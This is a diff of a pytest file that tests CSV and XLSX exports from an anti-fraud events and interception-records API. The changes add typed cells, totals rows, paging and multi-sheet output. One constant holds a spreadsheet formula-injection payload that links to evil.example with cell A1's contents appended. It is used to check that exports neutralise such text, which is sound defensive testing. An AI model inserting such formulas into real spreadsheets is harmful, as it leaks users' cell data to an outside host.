@@ -2,21 +2,22 @@
 
 import csv
 import io
-import re
-import zipfile
+from datetime import datetime
 from typing import Any
 from urllib.parse import unquote
-from xml.etree import ElementTree  # the files parsed are our own output
+from zoneinfo import ZoneInfo
 
 import httpx
+import openpyxl
 import pytest
 
+from core.formula_guard import unguard
 from tests.events.conftest import Api
 
 CSV_TYPE = "text/csv; charset=utf-8"
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 KINDS = ("events", "attendance", "interceptions")
-_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+SHANGHAI = ZoneInfo("Asia/Shanghai")
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
@@ -28,43 +29,30 @@ def read_csv(response: httpx.Response) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
-def _column_index(ref: str) -> int:
-    letters = re.match(r"[A-Z]+", ref)
-    assert letters is not None
-    index = 0
-    for letter in letters[0]:
-        index = index * 26 + ord(letter) - ord("A") + 1
-    return index - 1
-
-
-def read_xlsx(response: httpx.Response) -> tuple[list[dict[str, str]], str]:
-    """Rows as header → text (numbers as their text), and the raw sheet XML."""
+def read_xlsx(response: httpx.Response) -> tuple[list[dict[str, Any]], dict[str, Any], Any]:
+    """Data rows as header → typed value, the totals row, and the worksheet (openpyxl)."""
     assert response.status_code == 200, response.text
     assert response.headers["content-type"] == XLSX_TYPE
-    archive = zipfile.ZipFile(io.BytesIO(response.content))
-    strings: list[str] = []
-    if "xl/sharedStrings.xml" in archive.namelist():
-        shared = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314
-        for item in shared.findall("m:si", _NS):
-            strings.append("".join(t.text or "" for t in item.iter(f"{{{_NS['m']}}}t")))
-    sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
-    sheet = ElementTree.fromstring(sheet_xml)  # noqa: S314
-    grid: list[list[str]] = []
-    for row in sheet.iterfind("m:sheetData/m:row", _NS):
-        cells: list[str] = []
-        for c in row.findall("m:c", _NS):
-            index = _column_index(c.attrib["r"])
-            cells.extend([""] * (index + 1 - len(cells)))
-            value = c.find("m:v", _NS)
-            text = "" if value is None or value.text is None else value.text
-            cells[index] = strings[int(text)] if c.attrib.get("t") == "s" else text
-        grid.append(cells)
-    header, body = grid[0], grid[1:]
-    rows = [
-        {title: (cells[i] if i < len(cells) else "") for i, title in enumerate(header)}
-        for cells in body
-    ]
-    return rows, sheet_xml
+    # data_only: a formula cell reads as the value stored with it (the totals).
+    book = openpyxl.load_workbook(io.BytesIO(response.content), data_only=True)
+    sheet = book.worksheets[0]
+    grid = [list(row) for row in sheet.iter_rows(values_only=True)]
+    header, body, totals = grid[0], grid[1:-1], grid[-1]
+    assert totals[0] == "合计"
+    titles = [str(title) for title in header]
+    rows = [dict(zip(titles, cells, strict=True)) for cells in body]
+    return rows, dict(zip(titles, totals, strict=True)), sheet
+
+
+def xlsx_text(value: Any, money: bool = False) -> str:
+    """A typed cell as the CSV writes the same value (money, China time, integers)."""
+    if value is None:
+        return ""
+    if isinstance(value, datetime):
+        return value.replace(tzinfo=SHANGHAI).isoformat()
+    if money:
+        return f"{value:.2f}"
+    return str(value)
 
 
 async def _intercept(client: httpx.AsyncClient, world: Any, user: str, **body: Any) -> dict:
@@ -244,27 +232,36 @@ async def test_interception_filters_narrow_the_export(client, world, seeded):
     assert await refs(status="verified") == ["exp-big"]
 
 
-async def test_interceptions_xlsx_has_the_same_cells(client, world, seeded):
+async def test_interceptions_xlsx_has_the_same_cells_typed(client, world, seeded):
     csv_rows = read_csv(
         await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lk"))
     )
     response = await client.get("/api/exports/interceptions.xlsx", headers=world.auth("staff_lk"))
-    rows, sheet = read_xlsx(response)
+    rows, totals, sheet = read_xlsx(response)
     assert response.headers["content-disposition"].startswith(
         'attachment; filename="interceptions-'
     )
     assert ".xlsx" in response.headers["content-disposition"]
     assert [r["客户端编号"] for r in rows] == ["exp-small", "exp-big"]
-    assert rows[1]["挽回金额(元)"] == "86000.00"
-    assert rows[0]["挽回金额(元)"] == "0.50"
-    assert rows[1]["发生时间"] == "2025-06-01T14:30:00+08:00"
+    small, big = rows
+    # Money is a number in yuan with a ¥ format; instants are dates in China time.
+    assert big["挽回金额(元)"] == 86000
+    assert small["挽回金额(元)"] == 0.5
+    assert big["发生时间"] == datetime(2025, 6, 1, 14, 30)
+    assert big["记录ID"] == seeded["big"]["id"]
+    assert big["关联活动ID"] == seeded["lecture"]["id"]
+    assert totals["挽回金额(元)"] == 86000.5
     for xlsx_row, csv_row in zip(rows, csv_rows, strict=True):
         for title, value in csv_row.items():
-            # The CSV prefixes formula-like text; XLSX keeps it as a plain string cell.
-            assert xlsx_row[title] == value.removeprefix("'"), title
-    # Typed text is a string cell, never a formula.
-    assert "<f>" not in sheet
-    assert rows[0]["情况说明"] == HOSTILE
+            # The CSV guards formula-like text; XLSX keeps it as a plain string cell.
+            money = title == "挽回金额(元)"
+            assert xlsx_text(xlsx_row[title], money) == unguard(value), title
+    assert small["情况说明"] == HOSTILE
+    assert sheet["I3"].data_type == "s"  # typed text is a string cell, never a formula
+    assert sheet.freeze_panes == "A2"
+    # The totals follow the autofilter in Excel: SUBTOTAL over the visible rows.
+    formulas = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
+    assert formulas["G4"].value == "=SUBTOTAL(109,G2:G3)"
 
 
 async def test_formula_like_text_is_neutralised_in_csv(client, world, seeded):
@@ -356,6 +353,9 @@ async def test_events_export_with_the_list_filters(client, world, seeded):
     assert await titles(status="draft") == []
     assert await titles(**{"from": "2025-05-21T12:00:00+08:00"}) == ["向阳网点微沙龙"]
     assert await titles("xlsx", to="2025-05-21") == ["六库反诈讲座"]
+    xlsx, _, _ = read_xlsx(await client.get("/api/exports/events.xlsx", headers=coord))
+    assert xlsx[0]["开始时间"] == datetime(2025, 5, 20, 9, 0)
+    assert xlsx[0]["活动ID"] == seeded["lecture"]["id"]
 
     rows = read_csv(await client.get("/api/exports/events.csv", headers=coord))
     lecture = rows[0]
@@ -371,7 +371,7 @@ async def test_events_export_with_the_list_filters(client, world, seeded):
 async def test_attendance_export_with_filters(client, world, seeded):
     coord = world.auth("coord")
 
-    async def rows_of(extension: str = "csv", **params: Any) -> list[dict[str, str]]:
+    async def rows_of(extension: str = "csv", **params: Any) -> list[dict[str, Any]]:
         response = await client.get(
             f"/api/exports/attendance.{extension}", params=params, headers=coord
         )
@@ -386,7 +386,11 @@ async def test_attendance_export_with_filters(client, world, seeded):
     assert lecture["登记人"] == "admin"
     assert lecture["网点代码"] == "NJ-LK"
     xlsx = await rows_of("xlsx")
-    assert [r["受众人次"] for r in xlsx] == ["40", "25", "12"]
+    assert [r["受众人次"] for r in xlsx] == [40, 25, 12]
+    assert [r["其中学生"] for r in xlsx] == [None, None, None]
+    _, totals, sheet = read_xlsx(await client.get("/api/exports/attendance.xlsx", headers=coord))
+    assert (totals["受众人次"], totals["其中老年人"], totals["发放资料(份)"]) == (77, 38, 300)
+    assert sheet["E2"].number_format == "#,##0"
     assert [r["活动标题"] for r in await rows_of(branch="NJ-LK-A")] == ["向阳网点微沙龙"]
     assert [r["活动标题"] for r in await rows_of(event=seeded["lushui"]["id"])] == ["泸水公开讲座"]
     assert [r["活动标题"] for r in await rows_of(campaign=seeded["campaign"]["id"])] == [
@@ -419,20 +423,45 @@ async def test_bad_filters_answer_422_with_a_detail(client, world, seeded):
     assert response.status_code == 400
 
 
-async def test_too_many_rows_asks_to_narrow_the_filters(client, world, seeded, monkeypatch):
+async def test_exports_read_every_page_in_order(client, world, seeded, monkeypatch):
+    """Rows are read a page at a time (keyset); tiny pages must still give every row once."""
     from exports import export_rows
 
-    monkeypatch.setattr(export_rows, "MAX_ROWS", 2)
-    coord = world.auth("coord")
-    for name in KINDS:
-        for extension in ("csv", "xlsx"):
-            response = await client.get(f"/api/exports/{name}.{extension}", headers=coord)
-            assert response.status_code == 422, name
-            assert "narrow the filters" in response.json()["detail"]
-    narrowed = await client.get(
-        "/api/exports/interceptions.csv", params={"branch": "NJ-LS"}, headers=coord
+    for n in range(5):
+        await _intercept(
+            client, world, "staff_lk", ref=f"page-{n}", occurred_at="2025-06-01T14:30:00+08:00"
+        )
+    whole = read_csv(
+        await client.get("/api/exports/interceptions.csv", headers=world.auth("admin"))
     )
-    assert len(read_csv(narrowed)) == 1
+    monkeypatch.setattr(export_rows, "PAGE_ROWS", 2)
+    coord = world.auth("coord")
+    paged = read_csv(await client.get("/api/exports/interceptions.csv", headers=coord))
+    # Same time for six rows: the id breaks the tie, newest first, none lost or repeated.
+    assert paged == whole
+    assert len(paged) == 8
+    xlsx_rows = read_xlsx(await client.get("/api/exports/interceptions.xlsx", headers=coord))[0]
+    assert [r["记录ID"] for r in xlsx_rows] == [int(r["记录ID"]) for r in whole]
+    events = read_csv(await client.get("/api/exports/events.csv", headers=coord))
+    assert [r["标题"] for r in events] == ["六库反诈讲座", "泸水公开讲座", "向阳网点微沙龙"]
+    attendance = read_csv(await client.get("/api/exports/attendance.csv", headers=coord))
+    assert [r["受众人次"] for r in attendance] == ["40", "25", "12"]
+
+
+async def test_a_long_workbook_goes_on_in_a_second_sheet(client, world, seeded, monkeypatch):
+    from exports import xlsx_file
+
+    monkeypatch.setattr(xlsx_file, "SHEET_DATA_ROWS", 2)
+    response = await client.get("/api/exports/interceptions.xlsx", headers=world.auth("admin"))
+    book = openpyxl.load_workbook(io.BytesIO(response.content), data_only=True)
+    assert book.sheetnames == ["拦截记录", "拦截记录(2)"]
+    first, second = (list(ws.iter_rows(values_only=True)) for ws in book.worksheets)
+    assert [len(first), len(second)] == [4, 3]  # header, rows, totals
+    assert first[0] == second[0]
+    money = first[0].index("挽回金额(元)")
+    # Newest first: the small one, then Lushui and the big one at the same minute.
+    assert [first[-1][money], second[-1][money]] == [1200.5, 86000]
+    assert book.worksheets[1].auto_filter.ref == "A1:Q2"
 
 
 async def test_event_times_are_shown_in_the_events_own_zone(client, world):
